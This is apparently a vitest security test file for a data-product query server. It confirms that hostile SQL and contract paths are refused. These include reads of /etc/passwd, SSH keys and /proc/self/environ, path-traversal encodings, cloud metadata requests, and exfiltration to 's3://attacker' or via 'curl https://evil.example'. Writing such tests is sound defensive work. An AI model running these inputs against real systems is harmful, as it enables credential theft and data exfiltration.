import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { root } from '../server.ts';
import { type Case, codeOf, type Evidence, startWorlds, tableOf, tries, type Worlds } from './oracles.ts';

// F. Locations that lead out of a store, and credentials that are not the session's.

let worlds: Worlds;
beforeAll(async () => {
  worlds = await startWorlds({ also: links });
});
afterAll(() => worlds.close());

const contract = (name: string, tables: readonly string[]): string => `apiVersion: ambit/v1
kind: DataProduct
name: ${name}
version: 1.0.0
tenant: a
owner: { team: people }
purposes: { analytics: Look }
stores: { lake: { root: ${name} } }
catalogs: { csv: { type: csv, store: lake } }
tables:
${tables.map((path, at) => `  t${at}: { catalog: csv, path: ${JSON.stringify(path)}, columns: { name: { type: string }, pay: { type: bigint } } }\n`).join('')}functions: { allow: ["@aggregate"] }
settings: { datafusion.execution.listing_table_ignore_subdirectory: false }
`;
const everybody = `@id("all") permit (principal, action in [Action::"open", Action::"read", Action::"call"], resource);
@id("evidence") permit (principal in Role::"a/auditor", action == Action::"readEvidence", resource);
`;

const PATHS = {
  'a symbolic link to a file': 'link.csv',
  'a folder that holds links': 'mixed/',
  'a symbolic link to a folder': 'linked/',
  'a file behind such a link': 'linked/payroll.csv',
  'a pipe': 'pipe.csv',
  'a folder by the name of a file': 'folder.csv',
  'a link to a device': 'zero.csv',
  'a link to the process itself': 'environ.csv',
  'a home folder': '~/.ssh/id.csv',
} as const;

/** A store with whatever could lead out of it. Links lead to a file of another product, which is a good one. */
function links(folder: string): readonly string[] {
  const store = join(folder, 'links');
  mkdirSync(join(store, 'mixed'), { recursive: true });
  mkdirSync(join(store, 'folder.csv'));
  const outside = join(folder, 'data/payroll.csv');
  symlinkSync(outside, join(store, 'link.csv'));
  symlinkSync('../data', join(store, 'linked'));
  symlinkSync('/dev/zero', join(store, 'zero.csv'));
  symlinkSync('/proc/self/environ', join(store, 'environ.csv'));
  writeFileSync(join(store, 'mixed/good.csv'), 'name,pay\nann,1\n');
  symlinkSync(outside, join(store, 'mixed/link.csv'));
  symlinkSync('../../data', join(store, 'mixed/sub'));
  execFileSync('mkfifo', [join(store, 'pipe.csv'), join(store, 'mixed/pipe.csv')]);
  writeFileSync(join(folder, 'links.yaml'), contract('links', Object.values(PATHS)));
  writeFileSync(join(folder, 'links.cedar'), everybody);
  return [join(folder, 'links.yaml')];
}

describe('locations in SQL', () => {
  const refused = (id: string, sql: string, code: 'statement_refused' | 'table_unknown' | 'sql_syntax'): Case => ({
    id,
    tries: sql,
    sql,
    must: { refused: code },
  });
  tries(
    [
      refused('F1', "CREATE EXTERNAL TABLE leak (a TEXT) STORED AS CSV LOCATION '/etc/passwd'", 'sql_syntax'),
      refused('F1', "CREATE TABLE leak (a TEXT) LOCATION '/etc/passwd'", 'statement_refused'),
      refused('F1', "COPY emp FROM '/etc/passwd'", 'statement_refused'),
      refused('F1', "LOAD DATA INPATH '/etc/passwd' INTO TABLE emp", 'sql_syntax'),
      refused('F1', "SELECT * FROM '/etc/passwd'", 'table_unknown'),
      refused('F2', "SELECT * FROM '../plain/emp.parquet'", 'table_unknown'),
      refused('F3', "SELECT * FROM 'file:///data/%2e%2e/plain/emp.parquet'", 'table_unknown'),
      refused('F3', "SELECT * FROM 'emp.parquet%00/../../x'", 'table_unknown'),
      refused('F5', "SELECT * FROM 'FILE:///etc/passwd'", 'table_unknown'),
      refused('F5', "SELECT * FROM 'file://localhost/etc/passwd'", 'table_unknown'),
      refused('F5', "SELECT * FROM '~/.ssh/id_rsa'", 'table_unknown'),
      refused('F10', "SELECT * FROM 's3://victim/x.parquet'", 'table_unknown'),
      refused(
        'F11',
        "CREATE EXTERNAL TABLE x STORED AS PARQUET LOCATION 's3://b/x' OPTIONS ('aws.endpoint' 'http://169.254.169.254')",
        'sql_syntax',
      ),
      refused('F11', "SELECT * FROM 'http://169.254.169.254/latest/meta-data'", 'table_unknown'),
      refused('F12', "COPY (SELECT * FROM emp) TO 's3://attacker/x.csv'", 'statement_refused'),
      refused('F12', "COPY emp TO PROGRAM 'curl https://evil.example'", 'statement_refused'),
      refused('F12', "UNLOAD (SELECT * FROM emp) TO 's3://attacker/'", 'statement_refused'),
      refused('F12', "EXPORT DATA OPTIONS (uri = 's3://attacker/') AS SELECT * FROM emp", 'statement_refused'),
      refused('F12', "ATTACH DATABASE '/etc/passwd' AS x", 'statement_refused'),
      refused('F12', 'INSTALL httpfs', 'statement_refused'),
      refused('F15', "SELECT * FROM '/proc/self/environ'", 'table_unknown'),
      refused('F15', "SELECT pg_read_file('/etc/passwd')", 'table_unknown'),
    ].map((attack) =>
      attack.sql.includes('pg_read') ? { ...attack, must: { refused: 'function_unknown' as const } } : attack,
    ),
    () => worlds,
  );
});

describe('locations in a contract', () => {
  const paths = [
    ['F2', '../plain/emp.csv'],
    ['F2', 'x/../../plain/emp.csv'],
    ['F2', './emp.csv'],
    ['F3', '%2e%2e/plain/emp.csv'],
    ['F3', '..%2fplain.csv'],
    ['F3', 'emp.csv%00'],
    ['F3', '..\\plain\\emp.csv'],
    ['F5', '/etc/passwd'],
    ['F5', 'file:///etc/passwd'],
    ['F5', 'FILE:///etc/passwd'],
    ['F5', 's3://victim/emp.csv'],
    ['F5', '*.csv'],
    ['F5', 'emp.csv?x'],
    ['F5', 'emp.csv#x'],
    ['F5', 'a//emp.csv'],
    ['F14', 'http://169.254.169.254/latest/meta-data'],
  ] as const;
  let said = '';
  beforeAll(() => {
    const folder = mkdtempSync(join(tmpdir(), 'ambit-paths-'));
    const all = ['good.csv', ...paths.map(([, path]) => path)];
    writeFileSync(join(folder, 'paths.yaml'), contract('paths', all));
    writeFileSync(join(folder, 'paths.cedar'), everybody);
    const words = [join(root, 'packages/cli/bin/ambit.js'), 'validate', join(folder, 'paths.yaml')];
    said = spawnSync(process.execPath, words, { encoding: 'utf8' }).stderr;
    rmSync(folder, { recursive: true });
  });

  test.each(paths)('%s `%s` is not loaded', (_, path) => {
    expect(said).toContain(`path \`${path}\` `);
  });

  test('F2 and nothing else is wrong with them', () => {
    expect(said).toMatch(new RegExp(`^error: ${paths.length} problems$`, 'm'));
    expect(said.match(/hint: a path is relative to its store, and stays in it/g)).toHaveLength(paths.length);
  });
});

describe('what lies in a store and leads out of it', () => {
  test.each(Object.entries(PATHS).map(([what, path], at) => [what, `t${at}`, path] as const))(
    'F6 F7 F15 %s',
    async (_, table, path) => {
      const reply = await worlds.w.ask({ sql: `SELECT name, pay FROM ${table}`, product: 'links' });
      if (path === 'mixed/') {
        expect(tableOf(reply, true).rows).toEqual([['ann', 1]]);
      } else {
        // The server has looked, and opened none of it either.
        expect(codeOf(reply)).toBe('table_closed');
        for (const word of [worlds.w.folder, '/etc', '/proc', 'symlink', 'os error'])
          expect(reply.text).not.toContain(word);
      }
    },
  );

  test('F7 the evidence tells the owner that something was left out', async () => {
    const { headers } = await worlds.w.ask({ sql: 'SELECT count(*) FROM t1', product: 'links' });
    const evidence = await worlds.w.send('auditor', `/v1/sessions/${headers['ambit-session']}`);
    const accesses = evidence.json<Evidence>().outcome?.engine?.accesses as readonly {
      object: string;
      failures: number;
    }[];
    expect(accesses.find(({ object }) => object === 'mixed/')?.failures).toBeGreaterThanOrEqual(3);
    expect(accesses.map(({ object }) => object).toSorted()).toEqual(['mixed/', 'mixed/good.csv']);
  });
});

describe('what a worker has of its surroundings', () => {
  test('F15 F16 no variable, and no file but those of its stores', () => {
    for (const pid of worlds.w.server.workers()) {
      expect(readFileSync(`/proc/${pid}/environ`, 'utf8')).toBe('');
      // In force by the kernel, or said not to be.
      const status = readFileSync(`/proc/${pid}/status`, 'utf8');
      expect(status).toMatch(/^NoNewPrivs:\t1$/m);
      expect(status).toMatch(/^Seccomp:\t2$/m);
    }
  });

  test('F16 credentials of the host are nowhere in an answer', async () => {
    for (const path of ['/health', '/ready', '/v1/products', '/v1/openapi.json']) {
      const { text } = await worlds.w.send('alice', path);
      expect(text, path).not.toContain(worlds.w.server.token('alice'));
      expect(text, path).not.toContain(worlds.w.server.folder);
      expect(text, path).not.toContain(worlds.w.folder);
    }
  });
});
